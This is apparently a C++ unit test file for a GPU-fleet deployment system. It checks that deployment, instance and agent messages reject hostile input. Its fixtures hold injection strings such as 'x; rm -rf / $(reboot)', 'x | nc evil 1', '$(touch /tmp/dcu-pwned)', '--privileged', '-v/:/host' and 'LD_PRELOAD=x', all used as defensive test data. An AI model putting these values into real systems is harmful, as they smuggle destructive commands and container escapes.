// common/input_rules: the edge refuses hostile values with INVALID_ARGUMENT
// naming the field, and never echoes a huge value back.
#include "common/input_rules.h"

#include <cmath>
#include <limits>

#include "gmock/gmock.h"
#include "google/protobuf/descriptor.h"
#include "google/protobuf/reflection.h"
#include "gtest/gtest.h"

namespace dcu::common {
namespace {

using ::testing::HasSubstr;
using google::protobuf::FieldDescriptor;

// Shell metacharacters and argv tricks: each must be refused (or, in free
// text, kept as text — nothing here runs a shell).
const std::vector<std::string>& Hostile() {
  static const std::vector<std::string> v = {
      "x; touch /tmp/dcu-pwned",   "$(touch /tmp/dcu-pwned)", "`touch /tmp/dcu-pwned`",
      "x && reboot",               "x | nc evil 1",          "x > /etc/passwd",
      "--privileged",              "-v/:/host",               "../../etc",
      "x\ny",                      std::string("x\0y", 3),    "x'y\"z",
      "${IFS}",                    "a b",                     "x*",
  };
  return v;
}

dcufleet::v1::DeploymentSpec GoodSpec() {
  dcufleet::v1::DeploymentSpec s;
  s.set_model("qwen3-32b");
  s.set_name("qwen");
  s.set_served_model_name("Qwen/Qwen3-32B");
  return s;
}

TEST(DeploymentSpecTest, GoodSpecPasses) {
  EXPECT_TRUE(ValidateDeploymentSpec(GoodSpec()).ok()) << ValidateDeploymentSpec(GoodSpec());
  dcufleet::v1::DeploymentSpec s = GoodSpec();
  s.set_tp(8);
  s.set_node("gpu-01");
  s.set_stack_id("vllm-0.9.2");
  s.set_runtime("container");
  s.set_gpu_memory_utilization(0.9);
  s.set_max_model_len(32768);
  EXPECT_TRUE(ValidateDeploymentSpec(s).ok()) << ValidateDeploymentSpec(s);
}

TEST(DeploymentSpecTest, OneMiBModelNameRefusedWithShortMessage) {
  dcufleet::v1::DeploymentSpec s = GoodSpec();
  s.set_model(std::string(1 << 20, 'a'));
  absl::Status st = ValidateDeploymentSpec(s);
  EXPECT_EQ(st.code(), absl::StatusCode::kInvalidArgument);
  EXPECT_THAT(st.message(), HasSubstr("spec.model"));
  EXPECT_LT(st.message().size(), 200u);
}

TEST(DeploymentSpecTest, EveryStringFieldRefusesShellMetacharacters) {
  // Walk the message so a new string field is covered too.
  const auto* desc = dcufleet::v1::DeploymentSpec::descriptor();
  int string_fields = 0;
  for (int i = 0; i < desc->field_count(); ++i) {
    const FieldDescriptor* f = desc->field(i);
    if (f->cpp_type() != FieldDescriptor::CPPTYPE_STRING || f->is_repeated()) continue;
    ++string_fields;
    for (const std::string& bad : Hostile()) {
      dcufleet::v1::DeploymentSpec s = GoodSpec();
      s.GetReflection()->SetString(&s, f, bad);
      absl::Status st = ValidateDeploymentSpec(s);
      EXPECT_EQ(st.code(), absl::StatusCode::kInvalidArgument) << f->name() << " = " << bad;
      EXPECT_THAT(st.message(), HasSubstr(absl::StrCat("spec.", f->name()))) << bad;
    }
  }
  EXPECT_GE(string_fields, 6);
}

TEST(DeploymentSpecTest, NumericRanges) {
  auto with = [](auto set) {
    dcufleet::v1::DeploymentSpec s = GoodSpec();
    set(s);
    return ValidateDeploymentSpec(s);
  };
  EXPECT_THAT(with([](auto& s) { s.set_tp(-1); }).message(), HasSubstr("spec.tp"));
  EXPECT_THAT(with([](auto& s) { s.set_tp(65); }).message(), HasSubstr("spec.tp"));
  EXPECT_THAT(with([](auto& s) { s.set_replicas(-5); }).message(), HasSubstr("spec.replicas"));
  EXPECT_THAT(with([](auto& s) { s.set_max_model_len(int64_t{1} << 40); }).message(),
              HasSubstr("spec.max_model_len"));
  EXPECT_THAT(with([](auto& s) { s.set_max_num_seqs(-1); }).message(), HasSubstr("spec.max_num_seqs"));
  EXPECT_THAT(with([](auto& s) { s.set_gpu_memory_utilization(std::nan("")); }).message(),
              HasSubstr("spec.gpu_memory_utilization"));
  EXPECT_THAT(with([](auto& s) {
                s.set_gpu_memory_utilization(std::numeric_limits<double>::infinity());
              }).message(),
              HasSubstr("gpu_memory_utilization"));
  EXPECT_THAT(with([](auto& s) { s.set_gpu_memory_utilization(2); }).message(),
              HasSubstr("gpu_memory_utilization"));
  EXPECT_THAT(with([](auto& s) { s.set_backoff_initial_s(-1); }).message(), HasSubstr("backoff_initial_s"));
  EXPECT_THAT(with([](auto& s) { s.set_startup_timeout_s(INT32_MAX); }).message(),
              HasSubstr("startup_timeout_s"));
}

TEST(EnvNameTest, PosixNamesOnly) {
  for (const char* ok : {"HIP_VISIBLE_DEVICES", "_X", "a1", "VLLM_USE_V1"}) {
    EXPECT_TRUE(CheckEnvName("env", ok).ok()) << ok;
  }
  for (const std::string bad : {"", "1X", "A-B", "A=B", "A B", "A;B", "$(x)", "A\nB", "Ä"}) {
    absl::Status s = CheckEnvName("instance.env", bad);
    EXPECT_EQ(s.code(), absl::StatusCode::kInvalidArgument) << bad;
    EXPECT_THAT(s.message(), HasSubstr("instance.env"));
  }
  EXPECT_FALSE(CheckEnvName("env", std::string(129, 'A')).ok());
}

dcufleet::v1::InstanceSpec GoodInstance() {
  dcufleet::v1::InstanceSpec s;
  s.set_instance_id("qwen-1-a1b2c3");
  s.set_deployment("qwen");
  s.set_model("qwen3-32b");
  s.set_model_path("/models/Qwen3-32B");
  s.set_runtime_kind(dcufleet::v1::RUNTIME_BARE);
  s.set_runtime_location("/opt/conda/envs/vllm");
  s.add_device_indices(0);
  s.add_device_indices(1);
  s.set_port(8000);
  s.add_argv("python");
  s.add_argv("-m");
  s.add_argv("vllm.entrypoints.openai.api_server");
  s.add_argv("--served-model-name");
  s.add_argv("x; rm -rf / $(reboot)");  // argv elements are text: allowed
  (*s.mutable_env())["VLLM_USE_V1"] = "0";
  (*s.mutable_env())["WEIRD"] = "$(not a shell) ; `either`";
  s.add_ld_library_path_prefix("/opt/dtk/lib");
  s.add_source_scripts("/opt/dtk/env.sh");
  s.set_visible_devices_env("HIP_VISIBLE_DEVICES");
  s.set_shm_size("16g");
  return s;
}

TEST(InstanceSpecTest, GoodInstancePasses) {
  EXPECT_TRUE(ValidateInstanceSpec(GoodInstance()).ok()) << ValidateInstanceSpec(GoodInstance());
  dcufleet::v1::InstanceSpec c = GoodInstance();
  c.set_runtime_kind(dcufleet::v1::RUNTIME_CONTAINER);
  c.set_runtime_location("harbor.sourcefind.cn:5443/dcu/admin/base/vllm:0.9.2-ubuntu22.04");
  EXPECT_TRUE(ValidateInstanceSpec(c).ok()) << ValidateInstanceSpec(c);
}

TEST(InstanceSpecTest, RefusesWhatWouldBeReadAsSyntax) {
  struct Case {
    const char* field;
    std::function<void(dcufleet::v1::InstanceSpec&)> set;
  };
  std::vector<Case> cases = {
      {"instance.instance_id", [](auto& s) { s.set_instance_id("../../etc"); }},
      {"instance.instance_id", [](auto& s) { s.set_instance_id("a;b"); }},
      {"instance.model_path", [](auto& s) { s.set_model_path("models/rel"); }},
      {"instance.model_path", [](auto& s) { s.set_model_path("/m:/etc:rw"); }},
      {"instance.runtime_location",
       [](auto& s) {
         s.set_runtime_kind(dcufleet::v1::RUNTIME_CONTAINER);
         s.set_runtime_location("--privileged");
       }},
      {"instance.runtime_location",
       [](auto& s) {
         s.set_runtime_kind(dcufleet::v1::RUNTIME_CONTAINER);
         s.set_runtime_location("img -v /:/host");
       }},
      {"instance.env", [](auto& s) { (*s.mutable_env())["LD_PRELOAD=x"] = "y"; }},
      {"instance.env", [](auto& s) { (*s.mutable_env())["X"] = std::string("a\0b", 3); }},
      {"instance.argv[5]", [](auto& s) { s.add_argv(std::string("a\0b", 3)); }},
      {"instance.device_indices", [](auto& s) { s.add_device_indices(1); }},
      {"instance.device_indices", [](auto& s) { s.add_device_indices(-1); }},
      {"instance.port", [](auto& s) { s.set_port(70000); }},
      {"instance.ld_library_path_prefix[1]", [](auto& s) { s.add_ld_library_path_prefix("/a:/b"); }},
      {"instance.source_scripts[1]", [](auto& s) { s.add_source_scripts("env.sh"); }},
      {"instance.visible_devices_env", [](auto& s) { s.set_visible_devices_env("HIP;X"); }},
      {"instance.shm_size", [](auto& s) { s.set_shm_size("16g --privileged"); }},
      {"instance.served_model_name", [](auto& s) { s.set_served_model_name("--api-key=x"); }},
      {"instance.runtime_kind", [](auto& s) { s.set_runtime_kind(static_cast<dcufleet::v1::RuntimeKind>(7)); }},
      // Unspecified is not "bare": the agent must not guess how to run it.
      {"instance.runtime_kind", [](auto& s) { s.clear_runtime_kind(); }},
  };
  for (const auto& c : cases) {
    dcufleet::v1::InstanceSpec s = GoodInstance();
    c.set(s);
    absl::Status st = ValidateInstanceSpec(s);
    EXPECT_EQ(st.code(), absl::StatusCode::kInvalidArgument) << c.field;
    EXPECT_THAT(st.message(), HasSubstr(c.field));
  }
}

TEST(AssignmentTest, RefusesDuplicateIdsAndNamesTheInstance) {
  dcufleet::v1::Assignment a;
  a.set_generation(3);
  *a.add_instances() = GoodInstance();
  EXPECT_TRUE(ValidateAssignment(a).ok());
  *a.add_instances() = GoodInstance();
  EXPECT_THAT(ValidateAssignment(a).message(), HasSubstr("assignment.instances[1].instance_id"));
  a.mutable_instances(1)->set_instance_id("other-1");
  a.mutable_instances(1)->set_model_path("relative");
  EXPECT_THAT(ValidateAssignment(a).message(), HasSubstr("assignment.instances[1].model_path"));
}

// Issue 20: the batch job's names in the report and the Goodbye's reason.
TEST(AgentMessageTest, AllocationAndGoodbyeAreBounded) {
  dcufleet::v1::AgentMessage m;
  auto* a = m.mutable_status()->mutable_inventory()->mutable_allocation();
  a->set_scheduler("slurm");
  a->set_job_id("12");
  a->set_partition("dcu");
  a->set_end_time_ms(1796191255000);
  a->add_device_indices(3);
  EXPECT_TRUE(ValidateAgentMessage(m).ok()) << ValidateAgentMessage(m);
  a->set_partition(std::string(200, 'p'));
  EXPECT_THAT(ValidateAgentMessage(m).message(), HasSubstr("status.inventory.allocation.partition"));
  a->set_partition("dcu");
  a->set_end_time_ms(-1);
  EXPECT_THAT(ValidateAgentMessage(m).message(), HasSubstr("status.inventory.allocation.end_time_ms"));

  dcufleet::v1::AgentMessage bye;
  bye.mutable_goodbye()->set_reason("slurm job '12' ends (SIGTERM)");
  EXPECT_TRUE(ValidateAgentMessage(bye).ok());
  bye.mutable_goodbye()->set_reason(std::string(2000, 'x'));
  EXPECT_THAT(ValidateAgentMessage(bye).message(), HasSubstr("goodbye.reason"));
}

TEST(AgentMessageTest, BoundsAndNames) {
  dcufleet::v1::AgentMessage m;
  m.mutable_hello()->set_node_name("gpu-01");
  m.mutable_hello()->set_agent_version("0.1.0");
  m.mutable_hello()->mutable_inventory()->add_devices()->set_product_name("BW1000");
  EXPECT_TRUE(ValidateAgentMessage(m).ok()) << ValidateAgentMessage(m);

  dcufleet::v1::AgentMessage big = m;
  big.mutable_hello()->mutable_inventory()->mutable_devices(0)->set_product_name(std::string(2 << 20, 'x'));
  absl::Status s = ValidateAgentMessage(big);
  EXPECT_EQ(s.code(), absl::StatusCode::kInvalidArgument);
  EXPECT_THAT(s.message(), HasSubstr("hello.inventory.devices[0].product_name"));

  dcufleet::v1::AgentMessage name = m;
  name.mutable_hello()->set_node_name("gpu-01; rm -rf /");
  EXPECT_THAT(ValidateAgentMessage(name).message(), HasSubstr("hello.node_name"));

  // The advertised address becomes every endpoint's host.
  for (const char* good : {"10.0.0.7", "fd00::7", "dcu-node-01.example.org"}) {
    dcufleet::v1::AgentMessage addr = m;
    addr.mutable_hello()->set_advertise_address(good);
    EXPECT_TRUE(ValidateAgentMessage(addr).ok()) << good;
  }
  for (const char* bad : {"-oProxyCommand=x", "a b", "http://x/", "x;y", "\x01"}) {
    dcufleet::v1::AgentMessage addr = m;
    addr.mutable_hello()->set_advertise_address(bad);
    EXPECT_THAT(ValidateAgentMessage(addr).message(), HasSubstr("hello.advertise_address")) << bad;
  }

  dcufleet::v1::AgentMessage inst;
  inst.mutable_status()->add_instances()->set_instance_id("../x");
  EXPECT_THAT(ValidateAgentMessage(inst).message(), HasSubstr("status.instances[0].instance_id"));

  dcufleet::v1::AgentMessage many;
  for (int i = 0; i < 70000; ++i) many.mutable_status()->mutable_inventory()->add_probe_log("x");
  EXPECT_THAT(ValidateAgentMessage(many).message(), HasSubstr("status.inventory.probe_log"));

  // Compact figures (issue 22) are bounded like the devices they describe.
  dcufleet::v1::AgentMessage figures;
  for (int i = 0; i < 65; ++i) figures.mutable_status()->mutable_figures()->add_index(i);
  EXPECT_THAT(ValidateAgentMessage(figures).message(), HasSubstr("status.figures.index"));
  dcufleet::v1::AgentMessage sources;
  for (int i = 0; i < 513; ++i) sources.mutable_status()->mutable_figures()->add_sources()->set_slot(1);
  EXPECT_THAT(ValidateAgentMessage(sources).message(), HasSubstr("status.figures.sources"));
}

// Ports other services hold (the scheduler binary-searches them): ascending,
// unprivileged, bounded; the error names the entry.
TEST(AgentMessageTest, ForeignListenPortsAreAscendingAndBounded) {
  dcufleet::v1::AgentMessage m;
  auto* inv = m.mutable_status()->mutable_inventory();
  for (int p : {1024, 8070, 8071, 65535}) inv->add_foreign_listen_ports(p);
  EXPECT_TRUE(ValidateAgentMessage(m).ok()) << ValidateAgentMessage(m);
  inv->set_foreign_listen_ports(2, 8070);
  EXPECT_THAT(ValidateAgentMessage(m).message(),
              HasSubstr("status.inventory.foreign_listen_ports[2]: 8070 is outside 8071-65535"));
  inv->set_foreign_listen_ports(2, 8071);
  inv->set_foreign_listen_ports(0, 22);
  EXPECT_THAT(ValidateAgentMessage(m).message(),
              HasSubstr("status.inventory.foreign_listen_ports[0]: 22 is outside 1024-65535"));
  inv->clear_foreign_listen_ports();
  for (int p = 2000; p < 2000 + 4097; ++p) inv->add_foreign_listen_ports(p);
  EXPECT_THAT(ValidateAgentMessage(m).message(),
              HasSubstr("status.inventory.foreign_listen_ports: has 4097 entries; at most 4096"));
}

TEST(PreviewTest, ShortAndEscaped) {
  EXPECT_EQ(Preview("abc"), "abc");
  std::string escaped = Preview(std::string("a\0b\n", 4));
  EXPECT_THAT(escaped, HasSubstr("\\x00"));
  EXPECT_EQ(escaped.find('\0'), std::string::npos);
  EXPECT_EQ(escaped.find('\n'), std::string::npos);
  EXPECT_LT(Preview(std::string(1 << 20, 'z')).size(), 50u);
}

}  // namespace
}  // namespace dcu::common
